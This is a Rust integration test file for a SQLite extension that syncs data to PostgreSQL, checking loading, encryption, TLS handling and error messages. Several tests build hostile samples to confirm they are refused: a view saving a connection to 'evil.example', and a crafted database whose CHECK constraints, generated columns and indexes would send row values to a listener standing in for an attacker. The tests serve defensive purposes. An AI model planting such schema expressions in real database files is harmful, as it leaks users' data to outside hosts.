//! The built extension loaded into a Rust application through rusqlite, against the real
//! PostgreSQL and pgbouncer that scripts/test.sh starts.

mod common;

use std::collections::BTreeSet;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use common::local::{all_stored_text, column_names, error_of, int_of, json_of, save, value_of};
use common::{closed_port, open, open_in_memory, open_temp, open_with, pg, sql_str, temp_db, KEY};
use rusqlite::{Connection, OpenFlags};
use serde_json::Value;

/// `cloud_sync_test(target)`, parsed: what the extension found on connecting.
fn test_json(conn: &Connection, target: &str) -> Value {
    json_of(
        conn,
        &format!("SELECT cloud_sync_test({})", sql_str(target)),
    )
}

/// The error of `cloud_sync_test(target)`, which must fail.
fn test_error(conn: &Connection, target: &str) -> String {
    error_of(
        conn,
        &format!("SELECT cloud_sync_test({})", sql_str(target)),
    )
}

#[test]
fn every_function_has_a_test_a_reference_entry_and_safe_flags() {
    let conn = open(std::path::Path::new(":memory:"));
    let functions: BTreeSet<(String, i64)> = conn
        .prepare("SELECT name, flags FROM pragma_function_list WHERE name LIKE 'cloud_sync%'")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert!(functions.len() >= 6, "{functions:?}");
    let root = env!("CARGO_MANIFEST_DIR");
    let reference = std::fs::read_to_string(format!("{root}/docs/reference.md")).unwrap();
    let mut tests = String::new();
    for dir in ["tests", "sql/examples"] {
        for entry in std::fs::read_dir(format!("{root}/{dir}")).unwrap() {
            let path = entry.unwrap().path();
            if path.is_file() && !path.ends_with("rusqlite_host.rs") {
                tests += &std::fs::read_to_string(path).unwrap();
            }
        }
    }
    const DIRECTONLY: i64 = 0x80000;
    // These only read: the build, cloud_sync's own tables, the worker's state, the actor.
    const READ_ONLY: [&str; 5] = [
        "cloud_sync_actor",
        "cloud_sync_version",
        "cloud_sync_debug",
        "cloud_sync_report",
        "cloud_sync_worker_status",
    ];
    for (name, flags) in &functions {
        assert!(
            reference.contains(&format!("### `{name}(")),
            "{name} has no entry in docs/reference.md (a heading ### `{name}(...)`)"
        );
        assert!(
            tests.contains(&format!("{name}(")),
            "{name} is called by no test outside this file"
        );
        let direct_only = flags & DIRECTONLY != 0;
        assert_eq!(
            direct_only,
            !READ_ONLY.contains(&name.as_str()),
            "{name}: DIRECTONLY flag is {direct_only}"
        );
    }
}

#[test]
fn version_and_debug_describe_the_build_without_the_key() {
    let conn = open_in_memory();
    let version: String = value_of(&conn, "SELECT cloud_sync_version()");
    assert_eq!(version, env!("CARGO_PKG_VERSION"));
    let debug: String = value_of(&conn, "SELECT cloud_sync_debug()");
    assert!(!debug.contains(KEY), "{debug}");
    let debug: Value = serde_json::from_str(&debug).unwrap();
    assert_eq!(debug["encryption_key"]["configured"], true);
    assert_eq!(debug["encryption_key"]["key_id"].as_str().unwrap().len(), 8);
    assert!(debug["tls_backend"].as_str().unwrap().starts_with("rustls"));
    assert_eq!(debug["sqlite_version"], rusqlite::version());
    assert_eq!(debug["schema_version"], 4);
    assert!(!debug["git_commit"].as_str().unwrap().is_empty());
}

#[test]
fn loading_twice_and_into_many_connections_is_safe() {
    let (dir, conn) = open_temp("many");
    conn.execute_batch("PRAGMA user_version = 7; PRAGMA journal_mode = WAL;")
        .unwrap();
    common::load(&conn).unwrap();
    common::load(&conn).unwrap();
    let pg = pg();
    let handles: Vec<_> = (0..4)
        .map(|i| {
            let path = dir.db();
            let url = pg.verified_url();
            std::thread::spawn(move || {
                let conn = open(&path);
                conn.busy_timeout(Duration::from_secs(10)).unwrap();
                save(&conn, &format!("c{i}"), &url);
                common::load(&conn).unwrap();
            })
        })
        .collect();
    for h in handles {
        h.join().unwrap();
    }
    assert_eq!(
        int_of(&conn, "SELECT count(*) FROM cloud_sync_connections"),
        4
    );
    assert_eq!(
        int_of(&conn, "PRAGMA user_version"),
        7,
        "the extension must never touch user_version"
    );
    assert_eq!(test_json(&conn, "c3")["ok"], true);
}

#[test]
fn the_schema_is_created_idempotently_with_the_job_columns_later_issues_need() {
    let (_dir, conn) = open_temp("schema");
    common::load(&conn).unwrap();
    let columns = column_names(&conn, "cloud_sync_jobs");
    for needed in [
        "id",
        "connection_name",
        "kind",
        "dry_run",
        "status",
        "attempts",
        "max_attempts",
        "next_attempt_at",
        "created_at",
        "started_at",
        "finished_at",
        "summary",
        "error",
    ] {
        assert!(
            columns.iter().any(|c| c == needed),
            "cloud_sync_jobs lacks {needed}"
        );
    }
    for table in [
        "cloud_sync_connections",
        "cloud_sync_job_logs",
        "cloud_sync_meta",
    ] {
        let n = int_of(
            &conn,
            &format!(
                "SELECT count(*) FROM sqlite_schema WHERE type = 'table' AND name = '{table}'"
            ),
        );
        assert_eq!(n, 1, "{table}");
    }
    conn.execute(
        "INSERT INTO cloud_sync_jobs (connection_name, kind, status) VALUES ('x', 'export', 'queued')",
        [],
    )
    .unwrap();
    assert!(conn
        .execute(
            "INSERT INTO cloud_sync_jobs (connection_name, kind, status) VALUES ('x', 'export', 'bogus')",
            []
        )
        .is_err());

    // A database set up by a newer cloud_sync is refused at load, with the reason.
    conn.execute(
        "UPDATE cloud_sync_meta SET value = '99' WHERE key = 'schema_version'",
        [],
    )
    .unwrap();
    let err = common::load(&conn).unwrap_err().to_string();
    assert!(err.contains("newer cloud_sync"), "{err}");
}

/// A `cloud_sync_meta` changed by something else is named, with the way to restore it, by a
/// new load and by every function of a connection loaded before; the host carries on.
#[test]
fn a_damaged_schema_version_is_a_clear_error_at_load_and_in_functions() {
    let (_dir, path) = temp_db("damaged-meta");
    let conn = open(&path);
    for (damage, what) in [
        (
            "UPDATE cloud_sync_meta SET value = 'x2' WHERE key = 'schema_version'",
            "its schema_version is 'x2', not a version number",
        ),
        (
            "DELETE FROM cloud_sync_meta WHERE key = 'schema_version'",
            "it records no schema_version",
        ),
    ] {
        conn.execute_batch(damage).unwrap();
        let expected = format!("cloud_sync_meta is damaged: {what}");
        let err = common::load(&Connection::open(&path).unwrap())
            .unwrap_err()
            .to_string();
        assert!(err.contains(&expected), "load: {err}");
        assert!(
            err.contains("INSERT OR REPLACE INTO cloud_sync_meta"),
            "{err}"
        );
        for sql in [
            "SELECT cloud_sync_save('prod', 'postgresql://u@localhost/db')",
            "SELECT cloud_sync_run_jobs()",
            "SELECT * FROM cloud_sync_jobs_vtab",
        ] {
            let err = error_of(&conn, sql);
            assert!(err.contains(&expected), "{sql}: {err}");
        }
        let debug = json_of(&conn, "SELECT cloud_sync_debug()");
        let shown = debug["schema_version"]["error"]
            .as_str()
            .unwrap_or_default();
        assert!(shown.contains(&expected), "{debug}");
        // What the message says to do restores it.
        conn.execute_batch(
            "INSERT OR REPLACE INTO cloud_sync_meta (key, value) VALUES ('schema_version', '4')",
        )
        .unwrap();
        assert_eq!(
            json_of(&conn, "SELECT cloud_sync_debug()")["schema_version"],
            4
        );
        common::load(&Connection::open(&path).unwrap()).unwrap();
    }
}

#[test]
fn a_version_1_database_gets_the_change_tracking_tables_on_load() {
    let (_dir, path) = temp_db("upgrade");
    {
        let conn = open(&path);
        // What version 1 left: no tracking tables, no view, version 1 recorded.
        conn.execute_batch(
            "DROP VIEW cloud_sync_tracked; DROP TABLE cloud_sync_tracked_tables;
             DROP TABLE cloud_sync_changes; DROP TABLE cloud_sync_watermarks;
             UPDATE cloud_sync_meta SET value = '1' WHERE key = 'schema_version';",
        )
        .unwrap();
    }
    let conn = open(&path);
    let version: String = value_of(
        &conn,
        "SELECT value FROM cloud_sync_meta WHERE key = 'schema_version'",
    );
    assert_eq!(version, "4");
    conn.execute_batch("CREATE TABLE t (id INTEGER PRIMARY KEY, v TEXT)")
        .unwrap();
    let tracked: String = value_of(&conn, "SELECT cloud_sync_track('t')");
    assert!(tracked.contains("\"status\":\"tracked\""), "{tracked}");
    conn.execute("INSERT INTO t VALUES (1, 'a')", []).unwrap();
    assert_eq!(
        int_of(
            &conn,
            "SELECT pending_changes FROM cloud_sync_tracked WHERE table_name = 't'"
        ),
        1
    );
}

#[test]
fn a_read_only_database_gets_the_functions_and_clear_refusals() {
    let (_dir, path) = temp_db("readonly");
    save(&open(&path), "prod", &pg().verified_url());
    let conn = open_with(&path, OpenFlags::SQLITE_OPEN_READ_ONLY);
    let version: String = value_of(&conn, "SELECT cloud_sync_version()");
    assert!(!version.is_empty());
    let err = error_of(
        &conn,
        "SELECT cloud_sync_save('other', 'postgresql://u@h/d')",
    );
    assert!(err.contains("read-only"), "{err}");
    // Reading a saved connection still works.
    assert_eq!(test_json(&conn, "prod")["verified"], true);

    // A database that never had cloud_sync's tables, opened read-only.
    let (_dir2, empty) = temp_db("readonly-empty");
    Connection::open(&empty)
        .unwrap()
        .execute_batch("CREATE TABLE app(x)")
        .unwrap();
    let conn = open_with(&empty, OpenFlags::SQLITE_OPEN_READ_ONLY);
    let err = test_error(&conn, "prod");
    assert!(err.contains("not in this database"), "{err}");
}

#[test]
fn a_query_only_connection_loads_like_a_read_only_one() {
    // Datasette's internal database: in memory, query_only, no cloud_sync tables.
    let conn = Connection::open_in_memory().unwrap();
    conn.execute_batch("PRAGMA query_only = 1").unwrap();
    common::load(&conn).unwrap();
    let version: String = conn
        .query_row("SELECT cloud_sync_version()", [], |r| r.get(0))
        .unwrap();
    assert_eq!(version, env!("CARGO_PKG_VERSION"));
    let delete = |conn: &Connection| {
        conn.query_row("SELECT cloud_sync_delete('prod')", [], |r| {
            r.get::<_, i64>(0)
        })
        .unwrap_err()
        .to_string()
    };
    let err = delete(&conn);
    assert!(
        err.contains(
            "the connection is query-only (PRAGMA query_only = 1), so cloud_sync \
                      cannot delete a connection: run PRAGMA query_only = 0 first"
        ),
        "{err}"
    );
    let err = conn
        .query_row("SELECT count(*) FROM cloud_sync_jobs_vtab", [], |r| {
            r.get::<_, i64>(0)
        })
        .unwrap_err()
        .to_string();
    assert!(err.contains("not in this database"), "{err}");
    let tables: i64 = conn
        .query_row(
            "SELECT count(*) FROM sqlite_schema WHERE name LIKE 'cloud_sync%'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(tables, 0, "a query-only load writes nothing");

    // Turned off, the database can be written: a new load creates the tables.
    conn.execute_batch("PRAGMA query_only = 0").unwrap();
    common::load(&conn).unwrap();
    let err = delete(&conn);
    assert!(err.contains("unknown connection 'prod'"), "{err}");
}

#[test]
fn functions_with_effects_cannot_run_from_views_or_triggers() {
    let (_dir, conn) = open_temp("directonly");
    conn.execute_batch(
        "CREATE VIEW sneaky AS SELECT cloud_sync_save('stolen', 'postgresql://u@evil.example/d');
         CREATE TABLE t(x);
         CREATE TRIGGER sneaky_t AFTER INSERT ON t BEGIN SELECT cloud_sync_delete('prod'); END;",
    )
    .unwrap();
    let err = error_of(&conn, "SELECT * FROM sneaky");
    assert!(err.contains("unsafe use of cloud_sync_save"), "{err}");
    let err = conn
        .execute("INSERT INTO t VALUES (1)", [])
        .unwrap_err()
        .to_string();
    assert!(err.contains("unsafe use of cloud_sync_delete"), "{err}");
    assert_eq!(
        int_of(&conn, "SELECT count(*) FROM cloud_sync_connections"),
        0
    );
}

/// A listener standing for the server a crafted database file would send its rows to, and the
/// URL that leads there with the row's value as the user name.
fn attacker() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let url = format!("'postgresql://' || x || '@127.0.0.1:{port}/d?connect_timeout=1'");
    (listener, url)
}

fn assert_never_contacted(listener: &TcpListener) {
    let accepted = listener.accept();
    assert!(
        matches!(&accepted, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the crafted file's server was contacted: {accepted:?}"
    );
}

const REFUSED: &str = "can only be called directly in a statement, not from a CHECK constraint \
                       or other schema expression of the database file";

#[test]
fn a_crafted_files_check_generated_column_or_index_cannot_call_functions_with_effects() {
    let (_dir, path) = temp_db("crafted");
    let (listener, url) = attacker();
    // What the file's author writes; generated columns and indexes only take deterministic
    // functions, so they are written with abs() and edited in place, as an attacker can.
    open(&path)
        .execute_batch(&format!(
            "CREATE TABLE notes(x TEXT CHECK (cloud_sync_test({url}) IS NOT NULL));
             CREATE TABLE keys(x TEXT CHECK (cloud_sync_save('stolen', {url}) > 0));
             CREATE TABLE generated(x TEXT, y TEXT AS (abs(x)) STORED);
             CREATE TABLE indexed(x TEXT);
             CREATE INDEX indexed_x ON indexed(abs(x));
             PRAGMA writable_schema = ON;
             UPDATE sqlite_schema SET sql = replace(sql, 'abs(', 'cloud_sync_test(')
              WHERE name IN ('generated', 'indexed_x');"
        ))
        .unwrap();
    let conn = open(&path);
    for table in ["notes", "keys", "generated", "indexed"] {
        let err = conn
            .execute(&format!("INSERT INTO {table}(x) VALUES ('secret')"), [])
            .unwrap_err()
            .to_string();
        assert!(err.contains(REFUSED), "{table}: {err}");
        assert!(
            err.contains("(no running statement calls it)"),
            "{table}: {err}"
        );
        assert_eq!(int_of(&conn, &format!("SELECT count(*) FROM {table}")), 0);
    }
    // A statement of the application that calls the function itself does not let the schema's
    // call through: while the file's schema calls it, it is refused, naming who calls it.
    let err = error_of(
        &conn,
        "INSERT INTO notes SELECT cloud_sync_test('prod') RETURNING x",
    );
    assert!(
        err.contains(&format!(
            "table 'notes' of database 'main' calls it, but it {REFUSED}"
        )),
        "{err}"
    );
    let err = error_of(
        &conn,
        "SELECT cloud_sync_save('prod', 'postgresql://u@h/d')",
    );
    assert!(
        err.contains("table 'keys' of database 'main' calls it"),
        "{err}"
    );
    assert_eq!(
        int_of(&conn, "SELECT count(*) FROM cloud_sync_connections"),
        0
    );
    assert_never_contacted(&listener);

    // Without the crafted tables, the same direct calls work.
    conn.execute_batch(
        "DROP TABLE notes; DROP TABLE keys; DROP TABLE generated; DROP TABLE indexed;",
    )
    .unwrap();
    save(&conn, "prod", "postgresql://u@h/d");
    let err = test_error(
        &conn,
        &format!("postgresql://u@127.0.0.1:{}/d", closed_port()),
    );
    assert!(err.contains("connection refused"), "{err}");
}

#[test]
fn an_import_into_a_table_whose_check_calls_a_function_with_effects_fails_and_changes_nothing() {
    let (_dir, conn, pg) = common::local::with_saved_connection("crafted_import", false);
    let schema = common::remote::fresh_schema(&pg, "crafted_import");
    common::remote::as_test_user(
        &pg,
        &schema,
        "CREATE TABLE notes (id bigint PRIMARY KEY, x text); INSERT INTO notes VALUES (1, 'row');",
    );
    let (listener, url) = attacker();
    conn.execute_batch(&format!(
        "CREATE TABLE notes(id INTEGER PRIMARY KEY, x TEXT CHECK (cloud_sync_test({url}) IS NOT NULL))"
    ))
    .unwrap();
    let job = common::jobs::run_job(
        &conn,
        &format!("cloud_sync_import('prod', 0, 'skip', '{{\"schema\": \"{schema}\"}}')"),
    );
    assert_eq!(job["status"], "failed", "{job}");
    let error = job["error"].as_str().unwrap();
    assert!(
        error.contains(&format!("cloud_sync_test: it {REFUSED}")),
        "{error}"
    );
    assert_eq!(int_of(&conn, "SELECT count(*) FROM notes"), 0);
    assert_never_contacted(&listener);
}

/// The functions that only read cloud_sync's own tables or the worker's state are innocuous:
/// a view can call them even with PRAGMA trusted_schema off, while one that acts cannot.
#[test]
fn views_may_report_but_not_act() {
    let (_dir, conn) = open_temp("innocuous");
    conn.execute_batch("CREATE TABLE items (id INTEGER PRIMARY KEY)")
        .unwrap();
    save(&conn, "prod", "postgresql://u:pw@localhost/db");
    let id = int_of(&conn, "SELECT cloud_sync_export('prod', 1)");
    conn.execute_batch(&format!(
        "PRAGMA trusted_schema = OFF;
         CREATE VIEW job_report AS SELECT cloud_sync_report({id}, 'markdown') AS report;
         CREATE VIEW worker AS SELECT cloud_sync_worker_status() AS status;
         CREATE VIEW sneaky_run AS SELECT cloud_sync_run({id});"
    ))
    .unwrap();
    let report: String = value_of(&conn, "SELECT report FROM job_report");
    assert!(report.contains(&format!("job {id}")), "{report}");
    assert!(!report.contains("pw@"), "{report}");
    let status = json_of(&conn, "SELECT status FROM worker");
    assert_eq!(status["running"], false, "{status}");
    let err = error_of(&conn, "SELECT * FROM sneaky_run");
    assert!(err.contains("unsafe use of cloud_sync_run"), "{err}");
}

#[test]
fn save_encrypts_replaces_by_name_and_never_stores_or_shows_the_password() {
    let pg = pg();
    let (_dir, conn) = open_temp("save");
    let url = pg.verified_url();
    let stored_ciphertext = || -> String {
        value_of(
            &conn,
            "SELECT connection_string_encrypted FROM cloud_sync_connections",
        )
    };
    let id1 = save(&conn, "prod", &url);
    let first = stored_ciphertext();
    let id2 = save(&conn, "prod", &url);
    let second = stored_ciphertext();
    let display: String = value_of(&conn, "SELECT display FROM cloud_sync_connections");
    assert_eq!(id1, id2, "saving an existing name replaces it");
    assert_ne!(first, second, "every save uses a fresh nonce");
    assert!(second.starts_with("cs1:"), "{second}");
    assert_eq!(
        display,
        format!(
            "postgresql://{}:***@{}:{}/{}?sslmode=verify-full",
            pg.user, pg.host, pg.port, pg.db
        )
    );
    pg.assert_no_password(&all_stored_text(&conn), "what cloud_sync keeps");

    let report = test_json(&conn, "prod");
    pg.assert_no_password(&report.to_string(), "cloud_sync_test");
    assert_eq!(report["target"], display);

    // Bad input changes nothing.
    for (name, conn_str) in [
        ("bad name!", url.as_str()),
        ("prod", "postgresql://u:p@h/d?nonsense=1"),
        ("prod", "not a url"),
    ] {
        let result = conn.query_row("SELECT cloud_sync_save(?1, ?2)", [name, conn_str], |r| {
            r.get::<_, i64>(0)
        });
        assert!(result.is_err(), "{name} {conn_str}");
    }
    assert_eq!(stored_ciphertext(), second);
}

#[test]
fn delete_removes_a_connection_and_names_unknown_ones() {
    let (_dir, conn) = open_temp("delete");
    save(&conn, "gone", &pg().verified_url());
    assert_eq!(int_of(&conn, "SELECT cloud_sync_delete('gone')"), 1);
    let err = error_of(&conn, "SELECT cloud_sync_delete('gone')");
    assert!(err.contains("unknown connection 'gone'"), "{err}");
    let err = test_error(&conn, "gone");
    assert!(err.contains("unknown connection 'gone'"), "{err}");
}

/// Checks what cloud_sync_test found for `case`: connected, with or without TLS, verified or not.
fn assert_tls(case: &str, report: &Value, tls: bool, verified: bool) {
    assert_eq!(report["ok"], true, "{case}: {report}");
    assert_eq!(report["tls"], tls, "{case}: {report}");
    assert_eq!(report["verified"], verified, "{case}: {report}");
    assert!(
        report["server_version"]
            .as_str()
            .unwrap()
            .starts_with(char::is_numeric),
        "{case}: {report}"
    );
    assert!(
        report["rtt_ms"].as_f64().unwrap() >= 0.0,
        "{case}: {report}"
    );
}

#[test]
fn tls_follows_libpq_semantics_against_the_local_server() {
    let pg = pg();
    let conn = open_in_memory();
    let ca = format!("sslrootcert={}", pg.ca);
    let other_ca = format!("sslrootcert={}", pg.other_ca);

    // (case, host, query, TLS, verified)
    for (case, host, query, tls, verified) in [
        (
            "verify-full",
            "localhost",
            format!("sslmode=verify-full&{ca}"),
            true,
            true,
        ),
        (
            "verify-ca",
            "127.0.0.1",
            format!("sslmode=verify-ca&{ca}"),
            true,
            true,
        ),
        (
            "require",
            "localhost",
            "sslmode=require".into(),
            true,
            false,
        ),
        // libpq: `require` with a root file checks the chain (not the host name).
        (
            "require with a root file",
            "127.0.0.1",
            format!("sslmode=require&{ca}"),
            true,
            true,
        ),
        (
            "disable",
            "localhost",
            "sslmode=disable".into(),
            false,
            false,
        ),
        (
            "prefer",
            "localhost",
            "sslmode=prefer&channel_binding=require".into(),
            true,
            false,
        ),
    ] {
        let report = test_json(&conn, &pg.url(host, pg.port, &query));
        assert_tls(case, &report, tls, verified);
    }

    for (case, host, query, expected) in [
        (
            "wrong CA",
            "localhost",
            format!("sslmode=verify-full&{other_ca}"),
            "not signed by a trusted CA",
        ),
        (
            "wrong host",
            "127.0.0.1",
            format!("sslmode=verify-full&{ca}"),
            "does not name host \"127.0.0.1\"",
        ),
        (
            "no CA",
            "localhost",
            "sslmode=verify-full".into(),
            "needs a CA",
        ),
    ] {
        let message = test_error(&conn, &pg.url(host, pg.port, &query));
        assert!(message.contains(expected), "{case}: {message}");
        pg.assert_no_password(&message, case);
    }
}

#[test]
fn keyword_value_strings_and_the_pooler_in_transaction_mode() {
    let pg = pg();
    let conn = open_in_memory();
    let keywords = format!(
        "host=localhost port={} user={} password='{}' dbname={} sslmode=disable pgbouncer=true",
        pg.bouncer_port,
        pg.user,
        pg.password.replace('\'', "\\'"),
        pg.db
    );
    assert_tls("keywords", &test_json(&conn, &keywords), false, false);
    assert_tls("pooled", &test_json(&conn, &pg.pooled_url()), true, false);
}

#[test]
fn each_connection_failure_has_its_own_clear_message_without_the_password() {
    let pg = pg();
    let conn = open_in_memory();
    let wrong_password = format!(
        "postgresql://{}:{}@localhost:{}/{}?sslmode=require",
        pg.user, "not-the-password-xyz", pg.port, pg.db
    );
    let cases = [
        (wrong_password.clone(), "password authentication failed"),
        (
            wrong_password.replace(&format!(":{}/", pg.port), &format!(":{}/", pg.bouncer_port)),
            "password authentication failed",
        ),
        (
            pg.url("localhost", pg.port, "sslmode=require")
                .replace(&format!("/{}?", pg.db), "/no_such_db?"),
            "database \"no_such_db\" does not exist",
        ),
        (
            pg.url("127.0.0.1", closed_port(), "sslmode=disable"),
            "connection refused by 127.0.0.1",
        ),
        (
            pg.url("does-not-exist.invalid", pg.port, "sslmode=disable"),
            "could not resolve host \"does-not-exist.invalid\"",
        ),
        (
            pg.url("localhost", pg.port, "sslmode=require&frobnicate=1"),
            "unknown connection parameter \"frobnicate\"",
        ),
        (
            format!(
                "postgresql://{}:{}@[::1/x",
                pg.user,
                common::percent_encode(&pg.password)
            ),
            "malformed URL",
        ),
    ];
    for (target, expected) in cases {
        let message = test_error(&conn, &target);
        assert!(
            message.contains(expected),
            "expected {expected:?} in {message:?}"
        );
        pg.assert_no_password(&message, expected);
        assert!(!message.contains("not-the-password-xyz"), "{message}");
    }
}
#[test]
fn a_server_that_never_answers_ends_in_a_timeout_at_the_deadline() {
    // Accepts TCP connections and then says nothing, like a host whose start-up hangs.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let _held = std::thread::spawn(move || {
        let held: Vec<_> = listener.incoming().take(2).collect();
        std::thread::sleep(Duration::from_secs(10));
        drop(held);
    });
    let conn = open_in_memory();
    let started = Instant::now();
    let message = test_error(
        &conn,
        &format!("postgresql://u:secret-pw@127.0.0.1:{port}/d?sslmode=require&connect_timeout=2"),
    );
    let took = started.elapsed();
    assert!(message.contains("timed out after 2 s"), "{message}");
    assert!(!message.contains("secret-pw"));
    assert!(
        took >= Duration::from_secs(2) && took < Duration::from_secs(6),
        "{took:?}"
    );
}

#[test]
fn sni_carries_the_host_name_as_neon_requires() {
    use openssl::ssl::{NameType, SslAcceptor, SslFiletype, SslMethod};
    use std::io::{Read, Write};

    // A server that answers Postgres's SSLRequest with 'S', completes the TLS handshake and
    // records the server name the client sent.
    let pg = pg();
    let tls_dir = std::path::Path::new(&pg.ca).parent().unwrap().to_path_buf();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let mut acceptor = SslAcceptor::mozilla_intermediate_v5(SslMethod::tls_server()).unwrap();
        acceptor
            .set_private_key_file(tls_dir.join("server.key"), SslFiletype::PEM)
            .unwrap();
        acceptor
            .set_certificate_chain_file(tls_dir.join("server.crt"))
            .unwrap();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(None::<String>));
        let record = seen.clone();
        acceptor.set_servername_callback(move |ssl, _| {
            *record.lock().unwrap() = ssl.servername(NameType::HOST_NAME).map(str::to_string);
            Ok(())
        });
        let acceptor = acceptor.build();
        let (mut stream, _) = listener.accept().unwrap();
        let mut ssl_request = [0u8; 8];
        stream.read_exact(&mut ssl_request).unwrap();
        stream.write_all(b"S").unwrap();
        let _ = acceptor.accept(stream);
        let name = seen.lock().unwrap().clone();
        name
    });
    let conn = open_in_memory();
    let _ = test_error(
        &conn,
        &format!("postgresql://u:pw@localhost:{port}/d?sslmode=require&connect_timeout=5"),
    );
    assert_eq!(server.join().unwrap().as_deref(), Some("localhost"));
}

#[test]
fn an_async_host_can_call_network_functions_from_inside_a_tokio_runtime() {
    // An async application that calls SQL straight from a task: rust-postgres must not refuse
    // to block inside the runtime (TRAPS.md warns it panics in some setups).
    let conn = open_in_memory();
    let url = pg().verified_url();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let report = runtime.block_on(async { test_json(&conn, &url) });
    assert_eq!(report["verified"], true);
}
